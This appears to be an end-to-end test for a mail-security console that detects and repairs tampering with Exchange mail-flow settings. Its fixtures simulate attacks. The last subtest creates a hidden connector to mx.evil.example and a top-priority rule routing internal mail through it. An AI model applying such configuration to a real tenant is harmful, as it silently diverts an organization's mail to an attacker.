// Somebody in the tenant changes what Mailwarden made: an alert is raised, the console shows the difference, repairs it with the plan in
// sight, and the alert closes. What is wanted can be accepted instead, and taken back.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { axe, openConsole, openPage, settled } from '#test/support/console.ts'
import { eventually } from '#test/support/mail-journey.ts'

test('tampering is seen, shown as a difference and repaired', async (t) => {
  const { installation: made, page } = await openConsole(t)
  const tenantId = await made.connect('Contoso')
  const base = `/t/${tenantId}`
  const button = (name: string | RegExp) => page.getByRole('button', { name })

  async function tamper(cmdlet: string, parameters: Record<string, unknown>): Promise<void> {
    const response = await fetch(`${made.emulator.urls.control}/tenants/Contoso/cmdlets/${cmdlet}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ parameters, as: 'exchange.admin@contoso.com' }),
    })
    assert.ok(response.ok, await response.text())
  }

  await t.test('nothing is open at first', async () => {
    await openPage(page, `${base}/mail-flow/tampering`)
    await button('Check now').click()
    await page.getByText('Everything is as Mailwarden made it.').waitFor()
  })

  await t.test('the alert leads to the difference', async () => {
    await tamper('Set-OutboundConnector', {
      Identity: 'Mailwarden - To gateway',
      SmartHosts: ['relay.tailspin.example'],
    })
    await made.advance(60_000)
    await button('Check now').click()
    const difference = page.getByRole('region', { name: 'Difference in Mailwarden - To gateway' })
    await difference.getByRole('rowheader', { name: 'SmartHosts' }).waitFor()
    await difference.getByText('relay.tailspin.example').waitFor()
    await settled(page)
    assert.deepEqual(await axe(page), [])
    // On a phone, too, what was found is in sight.
    const wide = page.viewportSize()!
    await page.setViewportSize({ width: 390, height: 844 })
    const found = (await difference.getByText('relay.tailspin.example').boundingBox())!
    assert.ok(found.x >= 0 && found.x + found.width <= 390, `${found.x} + ${found.width}`)
    await page.setViewportSize(wide)
    const alerts = await made.api('GET', `/tenants/${tenantId}/alerts`)
    assert.ok(alerts.items.some(({ type }: { type: string }) => type.startsWith('mailflow.tamper')))
    await openPage(page, `${base}/mail-flow/connection`)
    await page.getByText('1 object not as expected').waitFor()
    await page.getByRole('link', { name: 'Show the differences and repair' }).click()
  })

  await t.test('the repair shows its plan first, and the difference is gone afterwards', async () => {
    await page.getByRole('button', { name: 'Repair', exact: true }).click()
    const dialog = page.getByRole('dialog', { name: 'Repair' })
    const change = dialog.getByText('Change the outbound connector', { exact: false })
    await change.first().click()
    await dialog.getByText('relay.tailspin.example').waitFor()
    assert.deepEqual(await axe(page), [])
    await dialog.getByRole('button', { name: 'Repair 1 finding' }).click()
    await page.getByText('Everything is as Mailwarden made it.').waitFor({ timeout: 60_000 })
    await eventually('the alert closes', async () => {
      const { items } = await made.api('GET', `/tenants/${tenantId}/alerts?state=open`)
      return items.every(({ type }: { type: string }) => !type.startsWith('mailflow.tamper'))
    })
    const [connector] = made.emulator.exchange.of(made.emulator.tenant('Contoso')).table('OutboundConnector').rows()
    assert.notDeepEqual(connector?.values['SmartHosts'], ['relay.tailspin.example'])
  })

  await t.test('one finding is repaired with its own plan in sight, and the other stays open', async () => {
    await tamper('Set-TransportRule', { Identity: 'Mailwarden 50 - Keep verdict', SetSCL: 5 })
    await tamper('Set-TransportRule', { Identity: 'Mailwarden 60 - Remove return token', Comments: 'by hand' })
    await made.advance(60_000)
    await button('Check now').click()
    const differenceIn = (name: string) => page.getByRole('region', { name: `Difference in ${name}` })
    await differenceIn('Mailwarden 60 - Remove return token').waitFor()
    const cards = await page.getByRole('region', { name: /^Difference in/ }).allTextContents()
    const place = cards.findIndex((text) => text.includes('SetSCL'))
    await button('Repair this').nth(place).click()
    const dialog = page.getByRole('dialog', { name: 'Repair Mailwarden 50 - Keep verdict' })
    await dialog.getByText('Change the mail flow rule “Mailwarden 50 - Keep verdict”').first().waitFor()
    assert.equal(await dialog.getByText('Remove return token').count(), 0)
    await settled(page)
    assert.deepEqual(await axe(page), [])
    await dialog.getByRole('button', { name: 'Repair 1 finding' }).click()
    await differenceIn('Mailwarden 50 - Keep verdict').waitFor({ state: 'detached', timeout: 60_000 })
    await differenceIn('Mailwarden 60 - Remove return token').waitFor()
    await made.api('POST', `/tenants/${tenantId}/mailflow/tamper/repair`)
    await button('Check now').click()
    await page.getByText('Everything is as Mailwarden made it.').waitFor()
  })

  await t.test('a change that is wanted is accepted, and the acceptance taken back', async () => {
    await tamper('Set-TransportRule', { Identity: 'Mailwarden 50 - Keep verdict', SetSCL: 0 })
    await made.advance(60_000)
    await button('Check now').click()
    await button('Accept').first().click()
    await page.getByRole('dialog').getByRole('button', { name: 'Accept' }).click()
    await page.getByText('Everything is as Mailwarden made it.').waitFor()
    await page.getByRole('tab', { name: 'Accepted' }).click()
    await button('Take back').click()
    await page.getByText('Nothing was accepted.').waitFor()
  })

  await t.test(
    'a rule of somebody else above ours is switched off with its command in sight, and on again',
    async () => {
      await tamper('New-OutboundConnector', {
        Name: 'Quiet copy',
        ConnectorType: 'OnPremises',
        SmartHosts: ['mx.evil.example'],
        UseMXRecord: false,
        IsTransportRuleScoped: true,
        TlsSettings: 'EncryptionOnly',
      })
      await tamper('New-TransportRule', {
        Name: 'Quiet copy',
        Priority: 0,
        SentToScope: 'InOrganization',
        RouteMessageOutboundConnector: 'Quiet copy',
      })
      await made.advance(60_000)
      await page.getByRole('tab', { name: 'Open' }).click()
      await button('Check now').click()
      await button('Switch off').first().click()
      const dialog = page.getByRole('dialog', { name: 'Switch off Quiet copy' })
      await dialog.getByText('Disable-TransportRule -Identity', { exact: false }).waitFor()
      await dialog.getByText('Enable-TransportRule -Identity', { exact: false }).waitFor()
      await settled(page)
      assert.deepEqual(await axe(page), [])
      await dialog.getByRole('button', { name: 'Switch off' }).click()
      await dialog.waitFor({ state: 'hidden' })
      const ruleState = () =>
        made.emulator.exchange
          .of(made.emulator.tenant('Contoso'))
          .table('TransportRule')
          .rows()
          .find(({ name }) => name === 'Quiet copy')?.values['State']
      assert.equal(ruleState(), 'Disabled')
      await page.getByRole('tab', { name: 'Switched off' }).click()
      await button('Switch on again').click()
      await page.getByRole('dialog').getByRole('button', { name: 'Switch on' }).click()
      await page.getByText('Switched on again').waitFor()
      assert.equal(ruleState(), 'Enabled')
    },
  )
})
